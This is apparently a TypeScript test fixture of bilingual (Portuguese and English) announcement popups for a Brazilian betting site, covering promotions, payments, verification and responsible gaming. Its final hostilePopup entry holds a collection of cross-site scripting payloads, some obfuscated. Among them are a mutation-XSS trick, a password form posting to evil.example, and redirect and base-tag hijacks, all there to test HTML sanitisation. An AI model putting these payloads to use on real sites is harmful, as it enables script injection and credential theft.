/** Entries of the announcement popup: more than one page for members and for visitors. */
import type { KeptItem } from '../../../platform/domain/base/content/announcement.ts'

const everybody = ['A', 'B'] as const

export const popups: readonly KeptItem[] = [
  {
    id: 501,
    type: 'PU',
    executions: everybody,
    daysAgo: 0,
    hour: 0,
    title: { pt: 'Novos jogos da semana', en: 'New games of the week' },
    content: {
      pt: '<h3>Chegaram à sala</h3><ul><li>Doze caça-níqueis novos, com RTP a partir de 96 %</li><li>Duas mesas de roleta em português</li><li>Um jogo de pesca para até quatro pessoas</li></ul><p><a href="/rng">Ver os caça-níqueis</a></p>',
      en: '<h3>New in the lobby</h3><ul><li>Twelve new slots, with an RTP of 96 % or more</li><li>Two roulette tables in Portuguese</li><li>A fishing game for up to four</li></ul><p><a href="/rng">See the slots</a></p>',
    },
  },
  {
    id: 502,
    type: 'PU',
    executions: everybody,
    promotionType: 'SPECIAL_OFFER',
    daysAgo: 1,
    hour: 9,
    title: { pt: 'Sexta em dobro', en: 'Double Friday' },
    content: {
      pt: '<p style="text-align:center;font-size:18px"><font color="#d4a017"><b>Giros extras para quem joga na sexta-feira</b></font></p><table border="1" width="100%"><tbody><tr><th>Apostas válidas</th><th>Giros</th></tr><tr><td>R$ 50,00</td><td>20</td></tr><tr><td>R$ 100,00</td><td>50</td></tr><tr><td>R$ 300,00</td><td>180</td></tr></tbody></table><p>Os giros caem no centro de recompensas em até dez minutos e valem por 48 horas.</p>',
      en: '<p style="text-align:center;font-size:18px"><font color="#d4a017"><b>Extra spins for playing on Friday</b></font></p><table border="1" width="100%"><tbody><tr><th>Valid bets</th><th>Spins</th></tr><tr><td>R$ 50.00</td><td>20</td></tr><tr><td>R$ 100.00</td><td>50</td></tr><tr><td>R$ 300.00</td><td>180</td></tr></tbody></table><p>The spins arrive in the reward centre within ten minutes and are good for 48 hours.</p>',
    },
  },
  {
    id: 503,
    type: 'PU',
    executions: ['A'],
    daysAgo: 2,
    hour: 10,
    title: {
      pt: 'Depósito por Pix confirmado em segundos',
      en: 'Pix deposits confirmed in seconds',
    },
    content: {
      pt: '<p>O código Pix agora é confirmado em <strong>menos de dez segundos</strong>. Ele vale por 15 minutos: depois disso, gere outro e não pague o antigo.</p>',
      en: '<p>A Pix code is now confirmed in <strong>less than ten seconds</strong>. It is good for 15 minutes: after that make another, and do not pay the old one.</p>',
    },
  },
  {
    id: 504,
    type: 'PU',
    executions: ['A'],
    promotionType: 'DAILY',
    daysAgo: 3,
    hour: 12,
    title: { pt: 'Cashback semanal liberado', en: 'Weekly cashback released' },
    content: {
      pt: '<p>O cashback da semana passada já está no centro de recompensas. Resgate até domingo, às 23h59.</p>',
      en: '<p>The cashback of last week is in the reward centre. Claim it until Sunday, 11:59 p.m.</p>',
    },
  },
  {
    id: 505,
    type: 'PU',
    executions: everybody,
    daysAgo: 4,
    hour: 15,
    title: { pt: 'Resultado do torneio de caça-níqueis', en: 'Results of the slots tournament' },
    content: {
      pt: '<p>Obrigado às 4.218 pessoas que jogaram. Os dez primeiros colocados já receberam o prêmio:</p><ol><li>mar***92: R$ 5.000,00</li><li>ped***_x: R$ 2.500,00</li><li>luz***07: R$ 1.000,00</li></ol><p onclick="abrirRanking()">O próximo torneio começa na primeira segunda-feira do mês.</p>',
      en: '<p>Thanks to the 4,218 people who played. The first ten have their prizes already:</p><ol><li>mar***92: R$ 5,000.00</li><li>ped***_x: R$ 2,500.00</li><li>luz***07: R$ 1,000.00</li></ol><p onclick="openRanking()">The next tournament begins on the first Monday of the month.</p>',
    },
  },
  {
    id: 506,
    type: 'PU',
    executions: ['A'],
    promotionType: 'LIMITED',
    daysAgo: 5,
    hour: 18,
    title: { pt: 'Pontos por cada aposta', en: 'Points for every bet' },
    content: {
      pt: '<p>Suas apostas rendem pontos, que não vencem. Veja os prêmios na <a href="/pointMall">loja de pontos</a>.</p>',
      en: '<p>Your bets earn points, and points never expire. See the goods in the <a href="/pointMall">points mall</a>.</p>',
    },
  },
  {
    id: 507,
    type: 'PU',
    executions: everybody,
    daysAgo: 7,
    hour: 9,
    title: {
      pt: 'Copa: odds turbinadas nos jogos do Brasil',
      en: 'Boosted odds on Brazil’s matches',
    },
    content: {
      pt: '<p>Nos jogos da Seleção, uma aposta por pessoa recebe <strong>20 % a mais</strong> no retorno, em apostas de até R$ 100,00. <a href="https://www.portico.example/regras-esportes" target="_blank">Regras completas</a></p>',
      en: '<p>When Brazil plays, one bet a person returns <strong>20 % more</strong>, for stakes up to R$ 100.00. <a href="https://www.portico.example/sports-rules" target="_blank">All the rules</a></p>',
    },
  },
  {
    id: 508,
    type: 'PU',
    executions: everybody,
    daysAgo: 9,
    hour: 10,
    title: { pt: 'Jogue com limite', en: 'Play within limits' },
    content: {
      pt: '<p>Defina <a href="/member/protection">limites</a> de depósito, de perda, de aposta e de tempo. <strong>Reduzir vale na hora; aumentar leva 24 horas.</strong></p><p>Se o jogo deixou de ser diversão, faça uma pausa ou se autoexclua: <a href="/help#responsible-gaming">saiba como</a>. Apoio gratuito: CVV, telefone 188.</p>',
      en: '<p>Set <a href="/member/protection">limits</a> on deposits, losses, bets and time. <strong>A lower limit applies at once; a higher one takes 24 hours.</strong></p><p>If playing is no fun any more, take a break or exclude yourself: <a href="/help#responsible-gaming">see how</a>. Free support in Brazil: CVV, call 188.</p>',
    },
  },
  {
    id: 509,
    type: 'PU',
    executions: everybody,
    daysAgo: 11,
    hour: 14,
    title: {
      pt: 'Aplicativo para iOS e Android atualizado',
      en: 'The app for iOS and Android, updated',
    },
    content: {
      pt: '<p>A versão nova abre em metade do tempo e avisa quando um saque é pago. <a href="/down">Baixar o aplicativo</a></p><p><img src="/art/banners/app.svg" alt="O aplicativo do Portico" width="320" height="120"></p>',
      en: '<p>The new version opens in half the time, and tells you when a withdrawal was paid. <a href="/down">Get the app</a></p><p><img src="/art/banners/app.svg" alt="The Portico app" width="320" height="120"></p>',
    },
  },
  {
    id: 510,
    type: 'PU',
    executions: ['A'],
    daysAgo: 15,
    hour: 11,
    title: {
      pt: 'Verificação de identidade mais simples',
      en: 'Verifying who you are got simpler',
    },
    content: {
      pt: '<p>Agora bastam uma foto do documento e uma selfie, enviadas pelo celular. A análise leva até 24 horas.</p>',
      en: '<p>A photo of your document and a selfie are enough, sent from your phone. The check takes up to 24 hours.</p>',
    },
  },
  {
    id: 511,
    type: 'PU',
    executions: everybody,
    daysAgo: 24,
    hour: 9,
    title: { pt: 'Novos termos de uso em vigor', en: 'New terms of use' },
    content: {
      pt: '<p class=MsoNormal>Atualizamos os termos de uso e a política de privacidade para a <span lang=PT-BR>Lei nº 14.790/2023</span>. O que muda:<o:p></o:p></p><ul><li>só aceitamos pagamentos do próprio titular;</li><li>cartão de crédito deixa de ser aceito;</li><li>você pode baixar seu histórico completo de apostas.</li></ul>',
      en: '<p class=MsoNormal>We have brought the terms of use and the privacy policy in line with <span lang=PT-BR>Lei nº 14.790/2023</span>. What is new:<o:p></o:p></p><ul><li>we take payments from your own accounts only;</li><li>credit cards are no longer accepted;</li><li>you can download the whole history of your bets.</li></ul>',
    },
  },
  {
    id: 512,
    type: 'PU',
    executions: ['B'],
    promotionType: 'NEWBIE',
    daysAgo: 20,
    hour: 9,
    title: { pt: 'Ainda não tem conta?', en: 'No account yet?' },
    content: {
      pt: '<p>O cadastro leva um minuto, e o RTP de cada jogo aparece antes de você jogar. <a href="/register">Criar conta</a></p>',
      en: '<p>Signing up takes a minute, and you see the RTP of each game before you play. <a href="/register">Create an account</a></p>',
    },
  },
  {
    id: 513,
    type: 'PU',
    executions: ['B'],
    daysAgo: 16,
    hour: 10,
    title: { pt: 'Experimente sem cadastro', en: 'Try the games without an account' },
    content: {
      pt: '<p>Os jogos com o botão <b>Teste grátis</b> abrem sem conta e sem dinheiro. <a href="/rng">Escolher um jogo</a></p>',
      en: '<p>Games with the button <b>Free trial</b> open without an account and without money. <a href="/rng">Choose a game</a></p>',
    },
  },
  {
    id: 514,
    type: 'PU',
    executions: ['B'],
    daysAgo: 18,
    hour: 10,
    title: { pt: 'Antes de criar a conta', en: 'Before you sign up' },
    content: {
      pt: '<ul><li>Só maiores de 18 anos podem jogar.</li><li>Conferimos seu CPF antes do primeiro depósito.</li><li>Depósitos e saques, só de contas no seu nome.</li></ul>',
      en: '<ul><li>You must be 18 or older to play.</li><li>We check your CPF before the first deposit.</li><li>Deposits and withdrawals use accounts in your own name only.</li></ul>',
    },
  },
  {
    id: 520,
    type: 'PU',
    executions: ['F'],
    promotionType: 'NEWBIE',
    daysAgo: 40,
    hour: 9,
    title: {
      pt: 'Sua conta está pronta: três passos para começar',
      en: 'Your account is ready: three first steps',
    },
    content: {
      pt: '<ol><li>Troque a senha provisória por uma só sua.</li><li>Confirme seu celular em <a href="/member/securityCenter">Minha conta</a>.</li><li>Defina quanto quer depositar por mês, no máximo.</li></ol>',
      en: '<ol><li>Change the first password for one that only you know.</li><li>Confirm your mobile number in <a href="/member/securityCenter">My account</a>.</li><li>Decide how much you want to deposit a month, at most.</li></ol>',
    },
  },
]

/**
 * Hostile announcement with everything that a page must not let through. Published only where
 * provoked failures are enabled, and only to one persona.
 */
export const hostilePopup: KeptItem = {
  id: 599,
  type: 'PU',
  executions: ['A'],
  daysAgo: 0,
  hour: 0,
  usernames: ['edu'],
  title: {
    pt: 'Marcação hostil <img src=x onerror="alert(1)">',
    en: 'Hostile markup <img src=x onerror="alert(1)">',
  },
  content: {
    pt: makeHostileHtml('Só este parágrafo pode aparecer.'),
    en: makeHostileHtml('Only this paragraph may show.'),
  },
}

function makeHostileHtml(words: string): string {
  return [
    `<p>${words}</p>`,
    '<script>document.title = "taken over"</script>',
    '<img src="x" onerror="document.title=\'taken over\'">',
    '<svg><script>alert(1)</script><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    '<a href="javascript:alert(1)">1</a><a href="JaVa\tScript:alert(1)">2</a>',
    '<a href="//evil.example">3</a><a href="data:text/html,<script>alert(1)</script>">4</a>',
    '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>',
    '<form action="https://evil.example"><input name="password" autofocus onfocus="alert(1)"></form>',
    '<style>body{display:none}@import "https://evil.example/x.css";</style>',
    '<div style="position:fixed;inset:0;background:url(https://evil.example/x)"></div>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  ].join('')
}
